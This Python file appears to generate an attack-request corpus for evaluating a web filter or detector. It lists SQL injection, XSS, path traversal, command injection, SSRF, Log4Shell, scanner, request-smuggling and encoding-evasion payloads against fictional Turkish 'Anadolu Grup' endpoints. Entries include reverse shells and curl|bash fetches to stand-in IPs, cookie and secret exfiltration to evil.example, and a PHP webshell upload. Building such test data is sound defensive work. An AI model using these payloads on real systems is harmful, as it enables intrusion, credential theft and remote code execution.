"""Attack requests against the same Anadolu Grup sites (written from memory)."""
import sys
import os
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import q, qp, xhr, app, write, TR, CK  # noqa: E402

BANK = [["Cookie", "ib_oturum=Zk9w1Qx7; ib_csrf=Rt5Yh2"], ["X-CSRF-Token", "Rt5Yh2"], ["Accept-Language", "tr-TR,tr;q=0.9"]]
PART = [["User-Agent", "AnadoluB2B-Client/2.3 (Java/17.0.9)"], ["Authorization", "Bearer b2b.3f9a7c1e5d0b4a28"]]
A = {}

A["sqli"] = [
    {"target": q("/api/v2/adres/ilceler", {"il": "İstanbul' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--"}), "profile": "xhr", "headers": xhr(), "note": "MSSQL error-based in district lookup"},
    {"target": "/magazalar?il=Ankara%27%29+UNION+ALL+SELECT+NULL%2Cusername%2Cpassword_hash%2CNULL+FROM+personel--+-", "profile": "chrome", "headers": TR, "note": "union in store locator"},
    {"method": "POST", "target": "/hesabim/giris", "profile": "form", "headers": TR, "form": [["tckn", "10000000146' OR '1'='1' -- "], ["sifre", "x"]], "note": "auth bypass on TCKN"},
    {"method": "POST", "target": "/internet-bankaciligi/api/havale-eft", "profile": "xhr", "headers": BANK,
     "json": {"aliciIban": "TR33 0006 1005 1978 6457 8413 26", "tutar": "1,00", "aciklama": "kira'; UPDATE hesaplar SET bakiye=bakiye+100000 WHERE iban LIKE 'TR12%';--"}, "note": "stacked update in transfer purpose"},
    {"target": q("/tv/api/ara", {"q": "dizi\" AND (SELECT 7741 FROM (SELECT(SLEEP(6)))aBcD) AND \"x\"=\"x"}), "profile": "xhr", "headers": xhr(), "note": "MySQL time-based in TV search"},
    {"target": "/b2b/v1/stok?depo=IST-HADIMKOY&stokKodu=TLF-A55%27||(SELECT+CASE+WHEN+(1=1)+THEN+pg_sleep(5)+ELSE+pg_sleep(0)+END)||%27", "profile": "api", "headers": PART, "note": "PostgreSQL conditional sleep in B2B stock"},
    {"target": "/tedarikci/faturalar?durum=reddedildi&sirala=(CASE+WHEN+(SELECT+SUBSTR(banner,1,1)+FROM+v$version+WHERE+ROWNUM=1)=%27O%27+THEN+tarih+ELSE+tutar+END)", "profile": "chrome", "headers": TR, "note": "Oracle boolean in ORDER BY"},
    {"target": "/urun/884120/sorular", "profile": "chrome", "headers": TR + [["Cookie", "oturum=7f3c9a1e; sepet_id=SP-77120' AND extractvalue(1,concat(0x7e,(select database()),0x7e))-- -"]], "note": "extractvalue in cookie"},
    {"method": "POST", "target": "/api/v3/sadakat/fis-tara", "profile": "mobile_app", "headers": app(),
     "json": {"qr": "ANDL|M344|K07|F00812' UNION SELECT group_concat(kart_no,0x3a,cvv) FROM kartlar#"}, "note": "union in receipt QR"},
    {"target": "/kariyer/ilanlar?q=yaz%C4%B1l%C4%B1m&sehir=1%20and%20updatexml(null,concat(0x0a,version()),null)--", "profile": "firefox", "headers": TR, "note": "updatexml numeric"},
]

A["xss"] = [
    {"target": q("/arama", {"q": "<script>fetch('//evil.example/c?'+document.cookie)</script>"}), "profile": "chrome", "headers": TR, "note": "reflected script in product search"},
    {"method": "POST", "target": "/api/v2/urun/900441/yorum", "profile": "mobile_app", "headers": app(),
     "json": {"puan": 5, "baslik": "Harika ürün", "metin": "Çok beğendim <img src=x onerror=\"this.src='https://evil.example/?'+localStorage.token\">"}, "note": "stored img onerror in review"},
    {"method": "POST", "target": "/intranet/haberler/2026-12-genel-mudur-mesaji/yorum", "profile": "xhr", "headers": [["Cookie", "intranet_sso=eyJ1IjoiYWt5aWxtYXoifQ.x1"]],
     "json": {"yorum": "Tebrikler! <svg/onload=alert(document.domain)>"}, "note": "svg onload in intranet comment"},
    {"target": "/hesabim/cikis?donus=javascript:alert(String.fromCharCode(88,83,83))", "profile": "chrome", "headers": TR, "note": "javascript: in return URL"},
    {"method": "POST", "target": "/iletisim/sikayet", "profile": "form", "headers": TR,
     "form": [["konu", "Fatura"], ["mesaj", "\"><iframe src=javascript:eval(atob('YWxlcnQoMSk='))></iframe>"]], "note": "iframe javascript in complaint"},
    {"target": "/kampanya/kis-firsatlari?utm_campaign=%22%3E%3Cbody%20onpageshow%3Dalert(1)%3E", "profile": "chrome_mobile", "headers": TR, "note": "utm breakout body onpageshow"},
    {"method": "POST", "target": "/asistan/api/nlu", "profile": "xhr", "headers": xhr(), "json": {"metin": "<details open ontoggle=confirm`1`>"}, "note": "details ontoggle in chatbot"},
    {"target": "/magazalar?il=%3Ca%20href%3D%22jav%26%23x61%3Bscript%3Aalert(1)%22%3Etikla%3C%2Fa%3E", "profile": "firefox", "headers": TR, "note": "entity-obfuscated javascript href"},
    {"target": "/basin-odasi/bultenler?yil=2026", "profile": "chrome", "headers": TR + [["Referer", "https://www.anadolu.com.tr/\"><script src=//evil.example/x.js></script>"]], "note": "script in Referer"},
    {"method": "POST", "target": "/api/v2/erisilebilirlik", "profile": "xhr", "headers": xhr(), "json": {"sorun": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"}, "note": "mutation XSS in feedback"},
]

A["lfi"] = [
    {"target": "/hesabim/sozlesmeler/indir/..%2F..%2F..%2F..%2Fetc%2Fpasswd", "profile": "chrome", "headers": TR + [["Cookie", CK]], "note": "encoded traversal in contract download"},
    {"target": "/ik/bordro/2026-11.pdf?indir=../../../../../../etc/shadow", "profile": "chrome", "headers": TR, "note": "traversal in payslip"},
    {"target": "/cdn/img/_next/image?url=..%2F..%2F..%2F..%2Fproc%2Fself%2Fenviron&w=64&q=75", "profile": "chrome_img", "headers": TR, "note": "proc environ via image optimiser"},
    {"target": "/yatirimci-iliskileri/raporlar/....//....//....//....//windows/win.ini", "profile": "edge", "headers": TR, "note": "doubled-dot Windows"},
    {"target": "/basin-odasi/medya-kiti/indir?dosya=php://filter/convert.base64-encode/resource=../config/database.php", "profile": "firefox", "headers": TR, "note": "php filter wrapper"},
    {"target": "/sablon?sayfa=..\\..\\..\\..\\inetpub\\wwwroot\\web.config", "profile": "chrome", "headers": TR, "note": "backslash traversal"},
    {"method": "POST", "target": "/api/v2/belgeler", "profile": "mobile_app", "headers": app(),
     "multipart": {"boundary": "AnadoluAppBoundary9f8e7d", "parts": [{"name": "dosya", "filename": "../../../../var/www/html/shell.php", "content_type": "application/pdf", "data": "%PDF-1.4 x"}]},
     "note": "traversal in upload filename"},
    {"target": "/tv/api/katalog?tema=file:///etc/passwd", "profile": "api", "headers": [["User-Agent", "AnadoluTV/3.1"]], "note": "file URL"},
    {"target": "/cdn/img/urun/884120/%2e%2e/%2e%2e/%2e%2e/%2e%2e/root/.ssh/id_rsa", "profile": "chrome_img", "headers": TR, "note": "%2e traversal to SSH key"},
    {"target": "/ik/api/mesai?ay=2026-11&format=../../../../../../var/log/apache2/access.log%00.csv", "profile": "xhr", "headers": xhr(), "note": "log with null byte"},
]

A["rce"] = [
    {"target": "/api/v2/magazalar/ara?q=K%C4%B1z%C4%B1lay%3Bcat%20%2Fetc%2Fpasswd", "profile": "xhr", "headers": xhr(), "note": "semicolon cat"},
    {"method": "POST", "target": "/b2b/v1/iade", "profile": "api", "headers": PART,
     "json": {"siparisNo": "B2B-2026-101", "seriNo": ["R58T90ABCDE$(curl -s http://203.0.113.9/x.sh|bash)"]}, "note": "command substitution in serial"},
    {"method": "POST", "target": "/webhook/sms/gelen", "profile": "api", "headers": [["User-Agent", "SMSGW-MO/2.0"]],
     "json": {"from": "905551112233", "to": "4412", "text": "EVET`wget -qO- 198.51.100.7/k|sh`"}, "note": "backticks in SMS"},
    {"target": "/tedarikci/api/e-arsiv/sorgu?ettn=f47ac10b|nc+-e+/bin/sh+198.51.100.7+4444", "profile": "api", "headers": PART, "note": "pipe netcat"},
    {"method": "POST", "target": "/hat/aktivasyon", "profile": "form", "headers": TR, "form": [["iccid", "8990011234567890125 && bash -i >& /dev/tcp/198.51.100.7/443 0>&1"], ["tckn", "10000000146"]], "note": "reverse shell"},
    {"target": "/kariyer/ilanlar?q=%7B%7B%5B%5D.__class__.__base__.__subclasses__()%5B117%5D.__init__.__globals__%5B%27popen%27%5D(%27id%27).read()%7D%7D", "profile": "chrome", "headers": TR, "note": "Jinja SSTI"},
    {"method": "POST", "target": "/api/v2/randevu", "profile": "xhr", "headers": xhr(),
     "json": {"not": "${T(java.lang.Runtime).getRuntime().exec('touch /tmp/pwn')}"}, "note": "Spring EL"},
    {"target": "/ik/api/mesai?ay=2026-11;powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", "profile": "xhr", "headers": xhr(), "note": "powershell encoded"},
    {"method": "POST", "target": "/tedarikci/fatura/yukle", "profile": "form_multipart", "headers": [["Cookie", "tedarikci_oturum=s9d8f7g6"]],
     "multipart": {"boundary": "----WebKitFormBoundaryEf4tUr4", "parts": [{"name": "dosya", "filename": "fatura.php", "content_type": "application/x-php", "data": "<?php system($_GET['c']); ?>"}]}, "note": "PHP webshell upload"},
    {"method": "POST", "target": "/api/v2/adres/dogrula", "profile": "xhr", "headers": xhr(),
     "json": {"metin": "O:8:\"stdClass\":1:{s:4:\"exec\";s:26:\"system('id;uname -a');\";}"}, "note": "PHP object injection with system"},
]

A["ssrf"] = [
    {"target": "/cdn/img/_next/image?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2F&w=64&q=75", "profile": "chrome_img", "headers": TR, "note": "AWS metadata via image optimiser"},
    {"method": "POST", "target": "/b2b/v1/webhook-ayarla", "profile": "api", "headers": PART, "json": {"url": "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"}, "note": "GCP metadata webhook"},
    {"target": "/api/v2/onizleme?link=http://127.0.0.1:8500/v1/agent/self", "profile": "xhr", "headers": xhr(), "note": "Consul on loopback"},
    {"target": "/api/v2/onizleme?link=gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A", "profile": "xhr", "headers": xhr(), "note": "gopher to Redis"},
    {"method": "POST", "target": "/tedarikci/api/efatura", "profile": "api", "headers": PART + [["Content-Type", "application/xml"]],
     "body": '<?xml version="1.0"?><!DOCTYPE Invoice [<!ENTITY x SYSTEM "http://169.254.169.254/latest/user-data">]><Invoice><cbc:Note>&x;</cbc:Note></Invoice>', "note": "XXE SSRF in e-Fatura"},
    {"target": "/cdn/img/fetch?src=http://0x7f000001/admin", "profile": "chrome_img", "headers": TR, "note": "hex IP loopback"},
    {"method": "POST", "target": "/api/v2/belgeler/url-den", "profile": "mobile_app", "headers": app(), "json": {"kaynak": "http://[::ffff:a9fe:a9fe]/latest/meta-data/"}, "note": "IPv6-mapped metadata"},
    {"target": "/kargo-takip/yonlendir?hedef=http://2130706433:2375/containers/json", "profile": "chrome", "headers": TR, "note": "decimal IP Docker API"},
    {"target": "/api/v2/onizleme?link=http://100.100.100.200/latest/meta-data/ram/security-credentials/", "profile": "xhr", "headers": xhr(), "note": "Alibaba metadata"},
    {"target": "/cdn/img/fetch?src=dict://localhost:11211/stats", "profile": "chrome_img", "headers": TR, "note": "dict memcached"},
]

A["log4shell"] = [
    {"target": "/", "profile": "chrome", "headers": [["User-Agent", "${jndi:ldap://198.51.100.7:1389/Exploit}"]], "note": "UA plain"},
    {"target": "/api/v3/anasayfa", "profile": "mobile_app", "headers": app() + [["X-Device-Id", "${jndi:rmi://203.0.113.9/o}"]], "note": "device id header"},
    {"target": "/hesabim/profil", "profile": "chrome", "headers": [["Cookie", "oturum=${${lower:j}ndi:${lower:l}dap://x.evil.example/a}"]], "note": "lower lookups in cookie"},
    {"target": "/b2b/v1/stok", "profile": "api", "headers": PART + [["X-Partner-Id", "${${::-j}${::-n}${::-d}${::-i}:dns://dnslog.example/p}"]], "note": "default-value obfuscation"},
    {"target": "/kampanya/yilbasi", "profile": "chrome", "headers": [["Referer", "${jndi:ldaps://evil.example:636/${env:AWS_SECRET_ACCESS_KEY}}"]], "note": "env exfil in Referer"},
    {"target": "/", "profile": "chrome", "headers": [["X-Forwarded-For", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://198.51.100.7/a}"]], "note": "env default obfuscation in XFF"},
    {"method": "POST", "target": "/asistan/api/nlu", "profile": "xhr", "headers": xhr(), "json": {"metin": "${jndi:ldap://127.0.0.1#evil.example:1389/a}"}, "note": "JSON body lookup"},
    {"target": "/tv/api/ara?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%2Fa%7D", "profile": "xhr", "headers": xhr(), "note": "URL-encoded in query"},
    {"target": "/", "profile": "chrome", "headers": [["Accept-Language", "${jndi:${lower:n}${lower:i}${lower:s}://evil.example/z}"]], "note": "nis in Accept-Language"},
    {"target": "/resmi/tcmb/kur", "profile": "api", "headers": [["User-Agent", "Anadolu-Raporlama/1.7"], ["X-Api-Version", "${base64:JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvYX0=}${jndi:corba://198.51.100.7/x}"]], "note": "odd header, corba"},
]

A["scanner"] = [
    {"target": "/.env", "profile": "none", "headers": [["User-Agent", "Mozilla/5.0 zgrab/0.x"]], "note": "zgrab .env"},
    {"target": "/wp-login.php", "profile": "none", "headers": [["User-Agent", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"]], "note": "WPScan"},
    {"target": "/?id=1", "profile": "none", "headers": [["User-Agent", "sqlmap/1.7.11#stable (https://sqlmap.org)"], ["Accept", "*/*"]], "note": "sqlmap UA"},
    {"target": "/.git/config", "profile": "none", "headers": [["User-Agent", "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"]], "note": "Nuclei git config"},
    {"target": "/cgi-bin/test-cgi", "profile": "none", "headers": [["User-Agent", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)"]], "note": "Nikto"},
    {"target": "/actuator/env", "profile": "none", "headers": [["User-Agent", "python-requests/2.31.0"]], "note": "Spring actuator probe"},
    {"target": "/phpmyadmin/index.php", "profile": "none", "headers": [["User-Agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"]], "note": "Nmap NSE"},
    {"target": "/server-status", "profile": "none", "headers": [["User-Agent", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"]], "note": "masscan"},
    {"target": "/FUZZ.bak", "profile": "none", "headers": [["User-Agent", "Fuzz Faster U Fool v2.1.0-dev"]], "note": "ffuf"},
    {"target": "/backup/db_2026-12-01.sql.gz", "profile": "none", "headers": [["User-Agent", "gobuster/3.6"]], "note": "gobuster backup"},
]

H = "Host: shop.example.com\r\n"  # corpus.HOST, the host eval.py targets
A["protocol"] = [
    {"raw": "POST /api/v2/sikayet HTTP/1.1\r\n" + H + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\nGET /yonetim/ HTTP/1.1\r\n" + H + "\r\n", "note": "CL.TE smuggling"},
    {"raw": "POST /webhook/sms/gelen HTTP/1.1\r\n" + H + "Transfer-Encoding: chunked\r\nContent-Length: 3\r\nConnection: close\r\n\r\n8\r\nSMUGGLED\r\n0\r\n\r\n", "note": "TE.CL"},
    {"raw": "POST /api/v2/tl-yukle HTTP/1.1\r\n" + H + "Transfer-Encoding: xchunked\r\nConnection: close\r\n\r\n1\r\nA\r\n0\r\n\r\n", "note": "bogus TE value"},
    {"raw": "POST /api/v2/tl-yukle HTTP/1.1\r\n" + H + "Content-Length: 10\r\nContent-Length: 42\r\nConnection: close\r\n\r\n{\"a\":1234}", "note": "duplicate differing CL"},
    {"raw": "POST /hesabim/giris HTTP/1.1\r\n" + H + "Transfer-Encoding : chunked\r\nConnection: close\r\n\r\n0\r\n\r\n", "note": "space before colon in TE"},
    {"raw": "GET /hesabim HTTP/1.1\r\n" + H + "Host: intranet.anadolu.local\r\n" + "Connection: close\r\n\r\n", "note": "duplicate Host"},
    {"raw": "GET /internet-bankaciligi HTTP/1.1\r\n" + H + "X-Foo: bar\r\n baz: qux\r\nConnection: close\r\n\r\n", "note": "obsolete line folding"},
    {"raw": "POST /b2b/v1/siparisler HTTP/1.1\r\n" + H + "Transfer-Encoding: chunked\r\nConnection: close\r\n\r\nzz\r\nhello\r\n0\r\n\r\n", "note": "invalid chunk size"},
    {"raw": "GET /kampanya HTTP/1.1\n" + H.replace("\r\n", "\n") + "Transfer-Encoding: chunked\nConnection: close\n\n0\n\n", "note": "bare LF line endings with TE on GET"},
    {"raw": "POST /api/v2/randevu HTTP/1.1\r\n" + H + "Content-Length: -1\r\nConnection: close\r\n\r\n", "note": "negative Content-Length"},
]

A["evasion"] = [
    {"target": "/magazalar?il=%2527%2520UNION%2520SELECT%2520password%2520FROM%2520personel--", "profile": "chrome", "headers": TR, "note": "double-encoded union"},
    {"target": "/arama?q=%u003Cscript%u003Ealert(1)%u003C/script%u003E", "profile": "chrome", "headers": TR, "note": "IIS %u encoding XSS"},
    {"target": "/tv/api/ara?q=1%27/**/uNiOn/**/sElEcT/**/tablo_adi/**/fRoM/**/information_schema.tables%23", "profile": "xhr", "headers": xhr(), "note": "comment-split mixed case"},
    {"target": "/hesabim/sozlesmeler/indir/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "profile": "chrome", "headers": TR, "note": "overlong UTF-8 dots"},
    {"method": "POST", "target": "/asistan/api/nlu", "profile": "xhr", "headers": xhr([["Content-Type", "application/json"]]), "body": '{"metin":"\\u003cimg src=x onerror=alert(1)\\u003e"}', "note": "JSON unicode escaped tags"},
    {"target": "/api/v2/magazalar/ara?q=x%3B%2Fbi%27%27n%2Fc%22%22at+%2Fe%5C%74c%2Fpa%3F%3Fwd", "profile": "xhr", "headers": xhr(), "note": "shell quote/glob-split cat /etc/passwd"},
    {"method": "POST", "target": "/iletisim/sikayet", "profile": "form", "headers": TR, "form": [["mesaj", "<scr<script>ipt>alert(1)</scr</script>ipt>"]], "note": "nested tag strip bypass"},
    {"target": "/arama?q=%EF%BC%9Cscript%EF%BC%9Ealert(1)%EF%BC%9C/script%EF%BC%9E", "profile": "chrome_mobile", "headers": TR, "note": "fullwidth angle brackets"},
    {"method": "POST", "target": "/hesabim/giris", "profile": "form", "headers": TR + [["Content-Type", "application/x-www-form-urlencoded; charset=ibm037"]],
     "body": "%A3%83%92%95=%F1%7D%40%96%99%40%7D%F1%7D%7E%7D%F1", "note": "EBCDIC charset body (' or '1'='1)"},
    {"method": "POST", "target": "/api/v2/urun/771002/soru", "profile": "xhr", "headers": xhr([["Content-Type", "application/json"]]), "body": '{"soru":"1\' \\u0055NION \\u0053ELECT kart_no,cvv FROM kartlar-- -"}', "note": "JSON unicode-escaped keywords"},
]

if __name__ == "__main__":
    total = 0
    for cat, es in A.items():
        total += write("attacks", cat, es)
    print("attack families %d, entries %d" % (len(A), total))
